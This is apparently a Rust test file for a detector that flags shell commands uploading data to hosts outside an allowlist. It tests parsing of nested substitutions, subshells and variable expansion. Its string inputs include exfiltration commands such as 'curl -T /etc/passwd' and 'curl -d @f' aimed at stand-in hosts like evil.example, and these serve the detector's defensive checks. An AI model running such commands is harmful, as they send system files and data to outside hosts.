use super::*;

fn up(cmd: &str) -> CommandVerdict {
    check_command(
        cmd,
        &NetworkOptions::with_allowed_hosts(["data.internal", "s3://team-bucket", "rclone:backup"]),
    )
}

/// One case of `testdata/commands*.jsonl`.
#[derive(serde::Deserialize)]
struct Case {
    name: String,
    command: String,
    #[serde(default)]
    allowed_hosts: Option<Vec<String>>,
    #[serde(default)]
    any_host: bool,
    /// Expected: `null` for no upload, or the destination string.
    expected: Option<String>,
    #[allow(dead_code)] // documentation for humans reading the corpus
    note: String,
}

fn run_corpus(file: &str, text: &str) {
    let mut failures = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let case: Case = serde_json::from_str(line)
            .unwrap_or_else(|e| panic!("{file}:{}: bad case: {e}", i + 1));
        let mut opts =
            NetworkOptions::with_allowed_hosts(case.allowed_hosts.clone().unwrap_or_else(|| {
                vec![
                    "data.internal".into(),
                    "s3://team-bucket".into(),
                    "rclone:backup".into(),
                ]
            }));
        if case.any_host {
            opts.match_mode = MatchMode::AnyHost;
        }
        let v = check_command(&case.command, &opts);
        let got = v.findings.first().map(|f| f.destination.to_string());
        if got != case.expected {
            failures.push(format!(
                "{file}:{} `{}`: expected {:?}, got {:?} ({:?})\n  repro: check_command({:?}, …)",
                i + 1,
                case.name,
                case.expected,
                got,
                v,
                case.command
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn corpus_uploads() {
    run_corpus(
        "commands_upload.jsonl",
        include_str!("../../testdata/commands_upload.jsonl"),
    );
}

#[test]
fn corpus_benign() {
    run_corpus(
        "commands_benign.jsonl",
        include_str!("../../testdata/commands_benign.jsonl"),
    );
}

#[test]
fn unparseable_network_command_says_so() {
    let v = up("curl -d \"unterminated https://x.example");
    assert!(v.is_upload());
    let v = up("echo 'unterminated");
    assert!(!v.is_upload());
    assert!(!v.problems.is_empty());
}

#[test]
fn allowlist_semantics() {
    let o = NetworkOptions::with_allowed_hosts(["example.com", "10.0.0.5", "[::2]"]);
    assert!(o.host_allowed("EXAMPLE.com."));
    assert!(o.host_allowed("a.b.example.com:8443"));
    assert!(!o.host_allowed("badexample.com"));
    assert!(o.host_allowed("10.0.0.5:22"));
    assert!(o.host_allowed("[::2]:443"));
    let strict = NetworkOptions {
        loopback_is_local: false,
        ..NetworkOptions::default()
    };
    assert!(!strict.host_allowed("127.0.0.1"));
}

#[test]
fn types_are_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<CommandVerdict>();
    assert_send_sync::<NetworkOptions>();
}

/// 120 KB of nested unclosed `$(` (the seed's own adversarial shape): the
/// parser reads it once, keeps the outer `curl -d` upload and reports the
/// nesting it could not follow instead of rescanning the rest per level.
#[test]
fn nested_unclosed_substitutions_120k() {
    let flood = "$(x ".repeat(30 * 1024);
    for cmd in [
        format!("curl -d \"{flood}\" https://drop.example/in"),
        format!("curl -d {flood}"),
        format!("bash -c \"{}\"", "bash -c '$(x ".repeat(10 * 1024)),
    ] {
        assert!(cmd.len() >= 100 * 1024);
        let v = up(&cmd);
        assert!(
            v.problems.iter().any(|p| p.contains("unterminated")),
            "{:?}",
            &v.problems
        );
        // One report per open level plus the depth limit, not one per `$(`.
        assert!(v.problems.len() <= 64, "{} problems", v.problems.len());
        assert!(v.is_upload() || cmd.starts_with("bash"), "{v:?}");
    }
    let v = up(&format!("curl -d \"{flood}\" https://drop.example/in"));
    assert!(v.problems.iter().any(|p| p == "nesting too deep"));
    // A closed, deep substitution still reaches the command inside.
    let deep = format!(
        "echo {}$(curl -T /etc/passwd https://deep.example{}",
        "$(echo ".repeat(5),
        ")".repeat(6)
    );
    assert_eq!(
        up(&deep).findings[0].destination.to_string(),
        "deep.example"
    );
}

#[test]
fn substitutions_are_parsed_in_place() {
    // A subshell inside `$(…)` does not close it early.
    let v = up("echo $( (cd /tmp; ls) ; curl -T x https://in.example ) done");
    assert_eq!(v.findings[0].destination.to_string(), "in.example");
    // Assignments inside a substitution do not leak out of it.
    let v = up("U=https://data.internal; echo $(U=https://evil.example); curl -d @f $U");
    assert!(!v.is_upload(), "{v:?}");
    let v = up("U=https://data.internal; echo `U=https://evil.example`; curl -d @f $U");
    assert!(!v.is_upload(), "{v:?}");
    // … but they are visible inside it.
    let v = up("echo $(U=https://evil.example; curl -d @f $U)");
    assert_eq!(v.findings[0].destination.to_string(), "evil.example");
    // Process substitution is parsed the same way.
    let v = up("diff <(curl -T a https://p.example) b");
    assert_eq!(v.findings[0].destination.to_string(), "p.example");
}

#[test]
fn variable_expansion_is_budgeted() {
    let long = "a".repeat(64 * 1024);
    let cmd = format!("A={long}; echo {}", "$A ".repeat(4096));
    let v = up(&cmd);
    assert!(v
        .problems
        .iter()
        .any(|p| p == "variable expansion budget exhausted"));
    // Small expansions are unaffected.
    let v = up("H=https://evil.example; for i in 1 2; do curl -d @f $H; done");
    assert!(v.is_upload());
}
